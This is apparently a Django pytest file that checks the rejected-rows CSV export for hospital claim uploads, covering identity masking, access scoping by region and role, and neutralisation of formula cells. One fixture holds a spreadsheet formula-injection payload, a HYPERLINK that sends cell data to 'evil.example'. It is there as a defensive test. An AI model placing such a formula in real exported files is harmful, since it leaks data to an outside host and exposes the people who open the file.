"""The hospital monthly file's rejected-rows file (the import framework's, as the enrollment
list's): every rejected row with its line, the file's own cells — identities masked for readers
who may not see them, formula-looking cells neutralised — and the reasons in Chinese; the
download scoped like the batch page."""

import csv
import io

import pytest
from django.urls import reverse

from claims.models import HospitalBatch
from insurance_admin.core.masking import mask_certno, mask_name
from programs.models import Contract
from tests.claims.hospital_files import (
    TONGLIAO_COLUMNS,
    csv_bytes,
    media_root,  # noqa: F401 (autouse)
    tongliao_row,
    upload,
)
from tests.factories import EnrollmentFactory, PersonFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def finance(db):
    return UserFactory(username="fin", role="finance", area_codes=["150500"])


@pytest.fixture
def person(db):
    return EnrollmentFactory(person=PersonFactory(name="包宝山")).person


def _refused_batch(client, finance, person) -> HospitalBatch:
    rows = [
        tongliao_row("S1", person),  # line 2: good
        tongliao_row("S2", person, medfee_sumamt="abc"),  # line 3: not an amount
        tongliao_row("S3", person, fixmedins_name=FORMULA, claim_kind="bogus"),  # line 4: a bad code, a formula cell
        tongliao_row("S4", person),  # line 5: good
        tongliao_row("S5", person, psn_no="X999"),  # line 6: nobody (found by the chunk's database check)
    ]
    client.force_login(finance)
    contract = Contract.objects.get(code="tongliao-2025")
    client.post(reverse("hospital_batch_upload"), {
        "contract": contract.pk, "month": "2025-03", "reported_on": "2025-04-05", "file": upload(csv_bytes(rows))})
    batch = HospitalBatch.objects.get()
    assert batch.status == "refused" and batch.error_count == 3, batch.errors
    return batch


def _table(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_rejected_rows_file_has_every_rejected_row_masked_and_formula_safe(client, finance, person):
    batch = _refused_batch(client, finance, person)
    url = reverse("hospital_batch_rejected", args=[batch.pk])
    page = client.get(reverse("hospital_batch_detail", args=[batch.pk])).content.decode()
    assert f'id="rejected-rows" href="{url}"' in page
    # the stored first-500 list is unchanged
    assert [(e["row"], e["column"], e["code"]) for e in batch.errors] == [
        (3, "medfee_sumamt", "not_amount"), (4, "claim_kind", "bad_code"), (6, "psn_no", "unknown_person")]

    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    table = _table(response)
    assert table[0] == ["行号", *TONGLIAO_COLUMNS, "原因"]
    assert [r[0] for r in table[1:]] == ["3", "4", "6"]  # exactly the 3 rejected rows, in line order
    cells = {r[0]: dict(zip(table[0], r, strict=True)) for r in table[1:]}
    assert cells["3"]["原因"] == "medfee_sumamt（医疗费总额）：“abc”不是金额。"
    assert cells["4"]["原因"] == ("claim_kind（就诊类型）：“bogus”不是以下取值之一：inpatient, outpatient, special_outpatient, "
                                  "accident_inpatient, student_accident_outpatient, special_drug。")
    assert cells["6"]["原因"] == "psn_no（人员编号）：没有 X999 对应的参保人。"
    assert cells["4"]["fixmedins_name"] == "'" + FORMULA  # neutralised: Excel shows it as text
    body = "\n".join(",".join(r) for r in table)
    assert person.certno not in body and person.name not in body  # finance may not see full identities
    assert {c["certno"] for c in cells.values()} == {mask_certno(person.certno)}
    assert {c["psn_name"] for c in cells.values()} == {mask_name(person.name)}
    assert cells["3"]["medfee_sumamt"] == "abc" and cells["6"]["psn_no"] == "X999"  # the file's own cells


def test_the_rejected_rows_file_is_scoped_like_the_batch(client, finance, person):
    batch = _refused_batch(client, finance, person)
    url = reverse("hospital_batch_rejected", args=[batch.pk])
    client.force_login(UserFactory(username="fin_tk", role="finance", area_codes=["411600"]))
    assert client.get(url).status_code == 404  # another region's batch
    client.force_login(UserFactory(username="cw", role="caseworker", area_codes=["150500"]))
    assert client.get(url).status_code == 403  # no view permission on hospital batches


def test_a_batch_without_rejected_rows_has_no_file(client, finance, person):
    client.force_login(finance)
    contract = Contract.objects.get(code="tongliao-2025")
    client.post(reverse("hospital_batch_upload"), {
        "contract": contract.pk, "month": "2025-03", "reported_on": "2025-04-05",
        "file": upload(csv_bytes([tongliao_row("S1", person)]))})
    batch = HospitalBatch.objects.get()
    assert batch.status == "validated" and not batch.rejected_file
    assert 'id="rejected-rows"' not in client.get(reverse("hospital_batch_detail", args=[batch.pk])).content.decode()
    assert client.get(reverse("hospital_batch_rejected", args=[batch.pk])).status_code == 404


def test_a_reader_who_may_see_identities_still_gets_them_masked(client, finance, person):
    """A bulk file of ID numbers would need an identity-access record per person; the line
    number finds the row in the hospital's own file."""
    batch = _refused_batch(client, finance, person)
    client.force_login(UserFactory(username="rev", role="reviewer", area_codes=["150500"]))
    table = _table(client.get(reverse("hospital_batch_rejected", args=[batch.pk])))
    column = table[0].index("certno")
    assert [r[column] for r in table[1:]] == [mask_certno(person.certno)] * 3
    assert not [cell for row in table for cell in row if person.certno in cell or person.name in cell]


def test_rows_are_written_in_line_order_window_by_window(client, finance, person, monkeypatch):
    """Each window of CHUNK rows is checked against the database before its rejected rows are
    written: with windows of 2 rows the file is the same."""
    from claims.imports import rows

    monkeypatch.setattr(rows, "CHUNK", 2)
    batch = _refused_batch(client, finance, person)
    table = _table(client.get(reverse("hospital_batch_rejected", args=[batch.pk])))
    assert [(r[0], r[-1].split("：")[0]) for r in table[1:]] == [
        ("3", "medfee_sumamt（医疗费总额）"), ("4", "claim_kind（就诊类型）"), ("6", "psn_no（人员编号）")]
